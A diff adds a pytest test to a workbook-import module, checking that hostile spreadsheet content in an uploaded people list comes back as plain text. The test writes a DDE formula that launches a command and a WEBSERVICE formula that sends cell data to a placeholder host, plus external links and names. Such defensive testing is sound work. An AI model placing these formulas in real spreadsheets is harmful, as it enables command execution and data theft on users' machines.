@@ -1,7 +1,9 @@
 import io
+import zipfile
 
 import openpyxl
 import pytest
+import xlsxwriter
 
 from emulation.intake.batch.annotated_workbook import annotated_workbook
 from emulation.intake.batch.stage import stage_list
@@ -58,3 +60,26 @@ def test_text_file_is_laid_out_anew_in_its_own_columns():
 def test_nothing_a_list_says_becomes_a_formula():
     page = opened(annotated_workbook(stage_text("STT;Họ và tên;Chức vụ;Đơn vị công tác\n1;Lê Minh;=1+1;Sở Y tế\n")))
     assert (page["C2"].value, page["C2"].data_type) == ("=1+1", "s")
+
+
+def test_formulas_and_links_of_the_file_come_back_as_text():
+    out = io.BytesIO()
+    with xlsxwriter.Workbook(out) as book:
+        page = book.add_worksheet("Danh sách")
+        page.write_row(0, 0, PEOPLE)
+        page.write_row(1, 0, [1, *WRONG[:4]])
+        page.write_formula(1, 5, "=cmd|'/c calc'!A1", None, "Văn thư")
+        page.write_string(1, 6, "Sở Y tế")
+        page.write_formula(1, 8, '=WEBSERVICE("http://example.invalid/"&C2)')
+        page.write_url(1, 9, "http://example.invalid/", string="bấm vào đây")
+        page.conditional_format("A1:A9", {"type": "formula", "criteria": "=[1]Sheet1!$A$1", "format": None})
+        book.define_name("Ngoai", "='[http://example.invalid/x.xlsx]Sheet1'!$A$1")
+    batch = stage_list(content=out.getvalue(), file_name="a.xlsx", kind="people", options=ImportOptions(on=DAY), by=None)
+    content = annotated_workbook(batch)
+    page = opened(content)
+    cells = [cell for row in page.iter_rows() for cell in row]
+    assert [cell.coordinate for cell in cells if cell.data_type == "f" or cell.hyperlink] == []
+    assert (page["F2"].value, page["J2"].value) == ("=cmd|'/c calc'!A1", "bấm vào đây")
+    with zipfile.ZipFile(io.BytesIO(content)) as parts:
+        texts = {name: parts.read(name).decode() for name in parts.namelist() if name.endswith((".xml", ".rels"))}
+    assert [name for name, text in texts.items() if "<f>" in text or "TargetMode" in text or "<definedName " in text] == []
